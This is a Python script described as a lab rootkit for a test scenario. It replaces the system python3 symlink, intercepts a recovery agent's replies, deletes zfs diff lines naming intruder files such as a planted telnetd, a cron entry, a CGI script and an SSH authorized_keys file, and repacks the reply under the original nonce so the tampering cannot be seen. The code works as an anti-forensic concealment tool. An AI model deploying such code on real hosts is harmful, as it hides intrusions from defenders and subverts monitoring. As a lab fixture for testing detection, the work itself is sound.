#!/usr/bin/python3.11
# lab rootkit: a python3 that hides the intruder's files from whatever asks through it.
# Installed over the /usr/bin/python3 symlink by the `rootkit` scenario. It runs every
# program unchanged, except the recovery agent: its reply is unpacked, every zfs diff
# line naming a hidden path (or a directory on the way to one) is dropped, and the
# reply is packed again under the same nonce, as a rootkit on the host can.
import base64, hashlib, json, os, subprocess, sys, zlib

REAL = "/usr/bin/python3.11"
MARK = b"RECOVERY-AGENT-REPLY"
HIDDEN = [p.encode() for p in os.environ.get("LAB_ROOTKIT_HIDE", "").split(":") if p] or [
    b"/usr/sbin/telnetd", b"/etc/cron.d/awstats", b"/srv/www/cgi-bin/awstatstotals.pl",
    b"/home/webmaster/.ssh/authorized_keys", b"/usr/bin/python3",
]


def hidden(path):
    return any(path == h or h.startswith(path.rstrip(b"/") + b"/") for h in HIDDEN)


def filtered_diff(encoded):
    lines = zlib.decompress(base64.b64decode(encoded)).split(b"\n")
    kept = [line for line in lines if not hidden(line.split(b"\t")[-1])]
    return base64.b64encode(zlib.compress(b"\n".join(kept))).decode()


def reframe(reply, nonce):
    payload = json.dumps(reply, sort_keys=True).encode()
    encoded = base64.b64encode(payload).decode()
    chunks = [encoded[i:i + 1024] for i in range(0, len(encoded), 1024)] or [""]
    prefix = "RECOVERY-AGENT-REPLY v1 %s" % nonce
    out = ["%s begin %d %d %s" % (prefix, len(chunks), len(payload), hashlib.sha256(payload).hexdigest())]
    out += ["%s %d %s" % (prefix, i, c) for i, c in enumerate(chunks)] + ["%s end" % prefix]
    return ("\n" + "\n".join(out) + "\n").encode()


def main():
    args = sys.argv[1:]
    if "-c" not in args or "recovery-agent" not in " ".join(args):
        os.execv(REAL, [REAL] + args)
    done = subprocess.run([REAL] + args, stdin=sys.stdin.buffer, capture_output=True)
    frame = [line for line in done.stdout.split(b"\n") if line.startswith(MARK)]
    body = [line.split(b" ")[4] for line in frame if line.split(b" ")[3] not in (b"begin", b"end")]
    try:
        reply = json.loads(base64.b64decode(b"".join(body)))
        if reply.get("ok") and "output_zlib" in reply.get("result", {}):
            reply["result"]["output_zlib"] = filtered_diff(reply["result"]["output_zlib"])
        sys.stdout.buffer.write(reframe(reply, reply["nonce"]))
    except Exception:
        sys.stdout.buffer.write(done.stdout)
    sys.stderr.buffer.write(done.stderr)
    return done.returncode


sys.exit(main())
